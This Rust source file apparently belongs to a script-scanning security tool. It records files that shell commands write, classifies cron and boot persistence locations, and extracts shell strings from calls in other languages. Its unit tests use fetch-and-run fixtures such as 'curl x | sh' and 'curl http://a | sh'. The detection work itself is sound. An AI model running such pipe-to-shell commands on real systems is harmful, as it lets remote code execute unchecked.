//! Files that scripts write: what is in them, and what will run them.

use super::nested::Scan;
use super::{Command, RedirectOp, UnitKind, WrittenFile, basename, carried, language_by_shebang};
use crate::user_data::{Language, places};

/// Written files that are kept.
pub(super) const MAX_FILES: usize = 128;
/// Bytes of all written files that are kept.
const MAX_BYTES: usize = 2 << 20;

/// What runs a file at a place.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Role {
    /// cron and its relatives.
    Cron,
    /// Boot, login, or an event: units, rc.local, profile.d, hooks.
    Boot,
    Ordinary,
}

/// What runs a file that stands at `path`.
pub(crate) fn role(path: &str) -> Role {
    match places::is_place(path) {
        true if places::is_cron(path) => Role::Cron,
        true => Role::Boot,
        false => Role::Ordinary,
    }
}

/// How a file's text is scanned: for its place, its first line, or the language of whatever runs it.
pub(super) fn as_script(
    path: &str,
    text: &str,
    run_by: Option<Language>,
) -> Option<(UnitKind, Language, String)> {
    if let Some(commands) = places::commands(path, text) {
        let kind = if commands.cron { UnitKind::Cron } else { UnitKind::Boot };
        return Some((kind, commands.language, commands.text));
    }
    let language = language_by_shebang(text)
        .or_else(|| language_by_extension(path).filter(|_| run_by.is_some()))
        .or(run_by)?;
    let makefile = matches!(basename(path), "Makefile" | "makefile" | "GNUmakefile") || path.ends_with(".mk");
    let text = if makefile { carried::make_recipes(text) } else { text.to_owned() };
    Some((UnitKind::File(path.to_owned()), language, text))
}

/// A path with `~`, `.`, `..` and doubled slashes undone; a Windows path as it was written.
pub(crate) fn absolute(path: &str) -> String {
    if path.contains('\\') || path.as_bytes().get(1) == Some(&b':') {
        return path.to_owned();
    }
    places::normalise("", path)
}

/// Whether a word names a file, whole or, when relative, by its last part.
pub(crate) fn same(word: &str, path: &str) -> bool {
    if word == path {
        return true;
    }
    let word = word.trim_start_matches("./");
    if word == path {
        return !path.is_empty();
    }
    if word.is_empty() || !path.ends_with(basename(word)) {
        return false;
    }
    match (word.starts_with('/') || word.starts_with('~'), path.starts_with('/')) {
        (true, true) => absolute(word) == path,
        _ => basename(word) == basename(path) && basename(path).len() > 1,
    }
}

pub(crate) fn language_by_extension(path: &str) -> Option<Language> {
    Some(match path.rsplit_once('.')?.1 {
        "sh" | "bash" => Language::Shell,
        "py" => Language::Python,
        "pl" => Language::Perl,
        "rb" => Language::Ruby,
        "php" => Language::Php,
        "ps1" => Language::PowerShell,
        "bat" | "cmd" => Language::Batch,
        "js" | "lua" => Language::Other,
        _ => return None,
    })
}

/// The commands of a crontab, each on its own line, other lines left blank.
pub(crate) fn cron_commands(text: &str, with_user: bool) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.lines() {
        out.push_str(&places::cron_command(line, with_user).unwrap_or_default());
        out.push('\n');
    }
    out
}

/// String literals of Python, Perl, Ruby, PHP or JavaScript that are handed to a shell: (offset, text).
pub(super) fn shell_literals(text: &str) -> Vec<(usize, String)> {
    const CALLS: &[&str] = &[
        "system",
        "popen",
        "exec",
        "execSync",
        "shell_exec",
        "passthru",
        "run",
        "call",
        "check_call",
        "check_output",
        "Popen",
        "getoutput",
        "spawn",
        "spawnSync",
        "execvp",
        "execl",
        "capture2",
        "execute",
    ];
    let mut found = Vec::new();
    let mut at = 0;
    // Quotes that are never closed are looked through only so often.
    let mut steps = text.len().saturating_mul(4);
    while let Some(next) = text.get(at..).and_then(|rest| rest.find(['(', '`', '"', '\''])) {
        let here = at + next;
        at = here + 1;
        match text.as_bytes().get(here) {
            Some(b'(') => {
                let before = text.get(..here).unwrap_or("").trim_end();
                let name =
                    before.rsplit(|c: char| !c.is_ascii_alphanumeric() && c != '_').next().unwrap_or("");
                if !CALLS.contains(&name) {
                    continue;
                }
                let Some((literals, end)) = call_literals(text, here + 1, &mut steps) else { continue };
                at = end;
                if !literals.is_empty() {
                    found.push((here, literals.join(" ")));
                }
            }
            // Perl, Ruby and PHP run what stands in backticks.
            Some(b'`') => {
                let Some(length) = text.get(at..).and_then(|rest| rest.find('`')) else { continue };
                let inside = text.get(at..at + length).unwrap_or("");
                if !inside.contains('\n') && !inside.is_empty() {
                    found.push((here, inside.to_owned()));
                }
                at += length + 1;
            }
            Some(_) => {
                // Perl's and Ruby's `system "..."`.
                let before = text.get(..here).unwrap_or("").trim_end();
                let (literal, end) = quoted(text, here, &mut steps);
                if before.ends_with("system") || before.ends_with("exec") {
                    found.push((here, literal));
                }
                at = end;
            }
            None => break,
        }
        if found.len() >= 64 || steps == 0 {
            break;
        }
    }
    found
}

/// All string literals in double quotes, wherever they stand.
pub(super) fn all_literals(text: &str) -> Vec<String> {
    let mut steps = text.len().saturating_mul(4);
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(next) = text.get(at..).and_then(|rest| rest.find('"')) {
        let (literal, behind) = quoted(text, at + next, &mut steps);
        at = behind;
        found.push(literal);
        if found.len() >= 64 || steps == 0 {
            break;
        }
    }
    found
}

/// The string literals at the start of a text, up to the end of the call that they stand in.
pub(super) fn literals(text: &str) -> Vec<String> {
    let mut steps = text.len().saturating_mul(4);
    call_literals(text, 0, &mut steps).map(|(literals, _)| literals).unwrap_or_default()
}

/// The string literals among a call's arguments, up to its closing parenthesis.
fn call_literals(text: &str, start: usize, steps: &mut usize) -> Option<(Vec<String>, usize)> {
    let mut at = start;
    let mut literals = Vec::new();
    let end = text.len().min(start.saturating_add(4096));
    while at < end {
        match text.as_bytes().get(at)? {
            b')' | b'\n' if !literals.is_empty() => break,
            b')' => break,
            b'"' | b'\'' => {
                let (literal, behind) = quoted(text, at, steps);
                literals.push(literal);
                at = behind;
            }
            _ => at += 1,
        }
    }
    Some((literals, at))
}

/// A quoted literal from its opening quote: the text, and where it ends.
fn quoted(text: &str, start: usize, steps: &mut usize) -> (String, usize) {
    let bytes = text.as_bytes();
    let Some(quote) = bytes.get(start) else { return (String::new(), start + 1) };
    let tripled = bytes.get(start + 1) == Some(quote) && bytes.get(start + 2) == Some(quote);
    let from = if tripled { start + 3 } else { start + 1 };
    let mut at = from;
    while let Some(byte) = bytes.get(at) {
        *steps = steps.saturating_sub(1);
        if *steps == 0 {
            break;
        }
        if *byte == b'\\' {
            at += 2;
            continue;
        }
        if byte == quote {
            let closed = !tripled || (bytes.get(at + 1) == Some(quote) && bytes.get(at + 2) == Some(quote));
            if closed {
                let literal = super::encoding::escapes(text.get(from..at).unwrap_or(""));
                return (literal, at + if tripled { 3 } else { 1 });
            }
        }
        if *byte == b'\n' && !tripled {
            break;
        }
        at += 1;
    }
    (String::new(), start + 1)
}

/// What a command copies, moves or links, and where to.
fn copies(command: &Command) -> Vec<(String, String)> {
    let mut folder = None;
    let mut operands = Vec::new();
    let mut args = command.args().iter().map(|word| word.text.as_str());
    while let Some(text) = args.next() {
        match text {
            "-t" | "--target-directory" => folder = args.next().map(|folder| format!("{folder}/")),
            "-m" | "-o" | "-g" | "-S" | "--mode" | "--owner" | "--group" | "-e" | "--rsh" => {
                args.next();
            }
            _ => match text.strip_prefix("--target-directory=") {
                Some(to) => folder = Some(format!("{to}/")),
                None if text.starts_with('-') => {}
                None => operands.push(text),
            },
        }
    }
    let to = match folder {
        Some(folder) => folder,
        None => match operands.pop() {
            // Several files can only go into a folder.
            Some(to) if operands.len() > 1 => format!("{to}/"),
            Some(to) => to.to_owned(),
            None => return Vec::new(),
        },
    };
    operands.into_iter().take(MAX_FILES).map(|from| (from.to_owned(), to.clone())).collect()
}

/// The text that `sed -i` puts into files, and those files: `1i TEXT`, `$a TEXT`, `s/a/TEXT/`.
fn inserted(command: &Command) -> Option<(String, Vec<String>)> {
    let in_place = |text: &str| text.starts_with("-i") || text.starts_with("--in-place") || text == "-ni";
    if !command.args().iter().any(|word| in_place(&word.text)) {
        return None;
    }
    let mut operands = command.operands().map(|word| word.text.as_str());
    let program = operands.next()?;
    let address = program.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '$' | ',' | ' '));
    let address = match address.strip_prefix('/') {
        Some(rest) => rest.split_once('/').map_or("", |(_, behind)| behind).trim_start(),
        None => address,
    };
    let mut text = String::new();
    if let Some(rest) = address.strip_prefix(['a', 'i', 'c']) {
        text.push_str(rest.trim_start_matches(['\\', '\n', ' ']));
    } else if let Some(rest) = address.strip_prefix('s') {
        let separator = rest.chars().next()?;
        text.push_str(rest.split(separator).nth(2)?);
    }
    if text.is_empty() {
        return None;
    }
    // A replacement may hold several lines.
    let mut text = super::encoding::escapes(&text);
    text.push('\n');
    Some((text, operands.map(str::to_owned).take(MAX_FILES).collect()))
}

impl Scan {
    /// A file that the script wrote, or that was there before: its text, and whether it was decoded.
    pub(super) fn file(&self, path: &str) -> Option<(&str, bool)> {
        if path.is_empty() {
            return None;
        }
        if matches!(path, "$0" | "${0}" | "${BASH_SOURCE}" | "/proc/self/fd/255") {
            return self.script.units.first().map(|unit| (&*unit.text, false));
        }
        if !self.budget.work.take(self.script.files.len().saturating_add(self.known.len()) / 8) {
            return None;
        }
        let written = self.script.files.iter().find(|file| same(path, &file.path));
        let written = written.map(|file| (file.text.as_str(), file.decoded));
        written.or_else(|| {
            self.known.iter().find(|(known, _)| same(path, known)).map(|(_, text)| (text.as_str(), false))
        })
    }

    /// Keep what a command writes into files, where that is known.
    pub(super) fn record_writes(&mut self, index: usize) {
        let Some(command) = self.script.commands.get(index) else { return };
        let mut targets: Vec<(String, bool)> = command
            .redirects
            .iter()
            .filter(|redirect| {
                redirect.fd == 1
                    && matches!(redirect.op, RedirectOp::Write | RedirectOp::Append | RedirectOp::Both)
            })
            .map(|redirect| (redirect.target.text.clone(), redirect.op == RedirectOp::Append))
            .collect();
        let mut reads = false;
        match command.name.as_str() {
            "tee" | "sponge" => {
                let append = command.has("-a") || command.has("--append");
                targets.extend(command.operands().map(|word| (word.text.clone(), append)));
                reads = true;
            }
            "dd" => {
                targets.extend(
                    command
                        .args()
                        .iter()
                        .filter_map(|word| word.text.strip_prefix("of="))
                        .map(|path| (path.to_owned(), false)),
                );
                reads = true;
            }
            "mv" | "cp" | "install" | "ln" | "rsync" => {
                for (from, to) in copies(command) {
                    let to = places::destination(&self.directory, &to, &from);
                    let found = match from.as_str() {
                        "/dev/stdin" | "-" | "/proc/self/fd/0" => {
                            self.input_of(index, 0).map(|output| (output.text(), output.decoded > 0))
                        }
                        _ => self
                            .file(&from)
                            .filter(|(text, _)| self.spend_output(text.len()))
                            .map(|(text, decoded)| (text.to_owned(), decoded)),
                    };
                    let Some((text, decoded)) = found else { continue };
                    self.write(to, text, false, index, decoded);
                }
                return;
            }
            "ed" | "ex" => {
                let path = command.operands().last().map(|word| word.text.clone());
                if let (Some(path), Some(output)) = (path, self.input_of(index, 0)) {
                    self.write(path, output.text(), true, index, false);
                }
                return;
            }
            "sed" => {
                if let Some((text, paths)) = inserted(command) {
                    for path in paths {
                        self.write(path, text.clone(), true, index, false);
                    }
                }
                return;
            }
            _ => {}
        }
        targets.retain(|(path, _)| {
            !path.is_empty()
                && (!path.starts_with("/dev/") || path.starts_with("/dev/shm/"))
                && !path.starts_with('&')
        });
        if targets.is_empty() {
            return;
        }
        let output = if reads { self.input_of(index, 0) } else { self.output_of(index, 0) };
        let Some(output) = output else { return };
        for (path, append) in targets {
            self.write(path, output.text(), append, index, output.decoded > 0);
        }
    }

    fn write(&mut self, path: String, text: String, append: bool, writer: usize, decoded: bool) {
        if !self.spend_output(text.len()) {
            return;
        }
        let path = match self.directory.is_empty() || path.contains('\\') {
            true => absolute(&path),
            false => places::normalise(&self.directory, &path),
        };
        let held: usize = self.script.files.iter().map(|file| file.text.len()).sum();
        if held.saturating_add(text.len()) > MAX_BYTES {
            self.script.over_bound = true;
            return;
        }
        // Written more than once: everything it ever held is kept, since any of it may be run.
        let room = self.script.files.len() < MAX_FILES;
        match self.script.files.iter_mut().find(|file| file.path == path) {
            Some(file) if !append && file.text == text => {}
            Some(file) => {
                file.text.push_str(&text);
                file.decoded |= decoded;
            }
            None if room => {
                self.script.files.push(WrittenFile {
                    path,
                    text,
                    writer: writer as u32,
                    decoded,
                    scanned: false,
                });
            }
            None => self.script.over_bound = true,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cron_lines_give_their_commands_on_the_same_lines() {
        let cron = "# c\nMAILTO=root\n*/5 * * * * root /tmp/x -q\n@reboot root sh /a\n";
        assert_eq!(cron_commands(cron, true), "\nMAILTO=root\n/tmp/x -q\nsh /a\n");
        assert_eq!(cron_commands("0 4 * * 1 curl x | sh", false), "curl x | sh\n");
    }

    #[test]
    fn shell_in_other_languages_is_found() {
        let python = "import os\nos.system('curl http://a | sh')\nsubprocess.run([\"wget\", \"-q\", \"x\"])\nprint('rm')\n";
        let found: Vec<String> = shell_literals(python).into_iter().map(|(_, text)| text).collect();
        assert_eq!(found, ["curl http://a | sh", "wget -q x"]);
        let found: Vec<String> =
            shell_literals("system \"id\"; $x = `uname -a`;").into_iter().map(|(_, t)| t).collect();
        assert_eq!(found, ["id", "uname -a"]);
    }
}
